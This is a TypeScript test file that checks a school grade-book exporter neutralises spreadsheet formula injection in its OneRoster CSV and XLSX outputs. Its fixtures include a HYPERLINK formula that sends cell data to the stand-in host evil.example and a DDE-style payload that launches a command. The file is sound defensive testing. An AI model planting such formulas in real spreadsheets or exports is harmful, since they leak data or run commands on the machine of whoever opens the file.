/**
 * Issue 26 #10: text that a spreadsheet would run as a formula (a sitting named
 * `=HYPERLINK(...)`, a candidate named `@SUM(...)`) is neutralised in the OneRoster CSVs and the
 * grade book XLSX; numbers and ordinary text are written as they are.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formulaSafe } from './formula-safe.ts';
import { toCsv } from './csv.ts';
import { oneRosterFiles } from './oneroster.ts';
import { GRADE_BOOK_HEADER_ROW, gradeBookXlsx } from './grade-book.ts';
import type { GradebookData } from './gradebook-data.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem điểm")';

const candidate = (n: number, fullName: string, form: string | null = null) => ({
  studentId: `student-${n}`,
  nationalId: `07920800000${n}`,
  fullName,
  dateOfBirth: '2011-04-01',
  classId: 'class-9a1',
  className: '9A1',
  candidateNumber: `SBD${n}`,
  form,
  sections: { S1: n },
  raw: n,
  max: 4,
  tenPoint: n * 2.5,
  rating: 'Khá',
  status: 'final' as const,
  scoredAt: new Date('2026-10-15T09:00:00Z'),
});

const data: GradebookData = {
  sitting: { id: 'sitting-1', name: HOSTILE, subject: '+Toán', opensAt: new Date('2026-10-15T01:30:00Z') },
  school: { id: 'school-1', name: '@school' },
  forms: ['-cmd', 'B'],
  sections: [{ id: 'S1', title: '-2+3 điểm cộng', max: 4 }],
  candidates: [candidate(1, '@SUM(1+1)*cmd|" /C calc"!A0', '-cmd'), candidate(2, 'Trần Bảo', 'B')],
};

describe('formula injection in exports', () => {
  it('neutralises text beginning with = + - @, tab or CR, and leaves numbers and plain text alone', () => {
    for (const text of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'])
      expect(formulaSafe(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ['-1', '+84', '-0,5', '3.5', '-', 'Nguyễn An', 'a=b', ''])
      expect(formulaSafe(text), JSON.stringify(text)).toBe(text);
    expect(toCsv(['a', 'b', 'c'], [[HOSTILE, -3, 'x']])).toBe(
      `a,b,c\r\n"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem điểm"")",-3,x\r\n`,
    );
  });

  it('writes no cell of the OneRoster CSVs that begins with a formula character', () => {
    const files = oneRosterFiles(data);
    let cells = 0;
    for (const [name, text] of Object.entries(files)) {
      for (const row of parse(text) as string[][])
        for (const value of row) {
          cells++;
          expect(/^[=+@\t\r]/.test(value) || /^-[^\d]/.test(value), `${name}: ${value}`).toBe(false);
        }
    }
    expect(cells).toBeGreaterThan(50);
    // The sitting's name is there, as text.
    expect(Object.values(files).some((text) => text.includes(`"'=HYPERLINK(`))).toBe(true);
  });

  it('writes no formula and no formula-like text in the grade book', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await gradeBookXlsx(data)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const texts: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    for (const text of texts) expect(/^[=+\-@\t\r]/.test(text) && text !== '-', text).toBe(false);
    const names = [1, 2].map((i) => sheet.getRow(GRADE_BOOK_HEADER_ROW + i).getCell(3).value);
    expect(names).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(names).toContain('Trần Bảo');
  });
});
